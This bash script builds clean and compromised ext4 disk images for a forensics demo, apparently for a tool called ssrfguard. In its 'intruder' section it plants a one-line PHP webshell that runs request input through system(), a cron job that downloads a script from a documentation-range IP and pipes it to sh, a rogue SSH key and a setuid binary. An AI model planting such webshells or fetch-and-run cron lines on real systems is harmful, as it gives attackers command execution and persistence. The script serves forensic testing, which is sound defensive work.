#!/usr/bin/env bash
# demo-victim.sh DIR — the demo's disks: DIR/clean.img, an ext4 root file
# system of a small web server as it was deployed, its known-good manifest
# DIR/baseline.jsonl (`ssrfguard forensics baseline`), and DIR/victim.img,
# the same file system after an intruder came in through the SSRF: a PHP
# webshell in the web root, a modified binary, a new cron entry and an
# extra authorized_keys line (and a new setuid file).  Needs mkfs.ext4 (e2fsprogs) and a build
# (SSRFGUARD: the binary, default ./build/cli/ssrfguard).
set -euo pipefail
cd "$(dirname "$0")/.."
out=${1:?usage: demo-victim.sh DIR}
sg=${SSRFGUARD:-./build/cli/ssrfguard}
work=$(mktemp -d "$out/tree-XXXXXX")
trap 'rm -rf "$work"' EXIT
root=$work/root
mkdir -p "$root"/{etc/cron.d,etc/ssh,usr/bin,var/www/html,var/tmp,home/ec2-user/.ssh,tmp}
printf 'root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n' \
  >"$root/etc/passwd"
printf 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$root/etc/crontab"
printf 'PermitRootLogin no\nPasswordAuthentication no\n' >"$root/etc/ssh/sshd_config"
cp /usr/bin/true "$root/usr/bin/ps"
cp /usr/bin/false "$root/usr/bin/netstat"
cat >"$root/var/www/html/index.php" <<'PHP'
<?php
// the service: fetches a preview of a user-supplied URL
$url = $_GET['url'] ?? '';
echo htmlspecialchars(file_get_contents('http://127.0.0.1:5001/go?url=' . urlencode($url)));
PHP
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJvYi1vcHMtbGFwdG9wAAAAAAAAAAAAAAAAAAAA ops@example.com' \
  >"$root/home/ec2-user/.ssh/authorized_keys"
chmod 700 "$root/home/ec2-user/.ssh"
find "$root" -exec touch -h -d '2026-11-01 09:00:00 UTC' {} +
mkfs.ext4 -q -F -L demo-root -E root_owner=0:0 -d "$root" "$out/clean.img" 16M >/dev/null
"$sg" forensics baseline --device "$out/clean.img" --out "$out/baseline.jsonl" --progress off \
  >/dev/null

# what the intruder left
cat >"$root/var/www/html/.thumb.php" <<'PHP'
<?php if (isset($_REQUEST['c'])) { echo '<pre>'; system($_REQUEST['c']); echo '</pre>'; } ?>
PHP
printf '\n# trojaned: hides the miner\n' >>"$root/usr/bin/ps"
echo '*/5 * * * * root curl -fsS http://198.51.100.77/u.sh | sh' >"$root/etc/cron.d/sysupdate"
echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDintruderkeyintruderkeyintruderkey intruder' \
  >>"$root/home/ec2-user/.ssh/authorized_keys"
cp /usr/bin/true "$root/var/tmp/.ICE-x"   # a way back to root
chmod 4755 "$root/var/tmp/.ICE-x"
touch -h -d '2026-12-04 03:12:00 UTC' "$root/var/www/html/.thumb.php" "$root/usr/bin/ps" \
  "$root/etc/cron.d/sysupdate" "$root/home/ec2-user/.ssh/authorized_keys" "$root/etc/cron.d" \
  "$root/var/tmp/.ICE-x" "$root/var/tmp" \
  "$root/var/www/html" "$root/home/ec2-user/.ssh"
mkfs.ext4 -q -F -L demo-root -E root_owner=0:0 -d "$root" "$out/victim.img" 16M >/dev/null
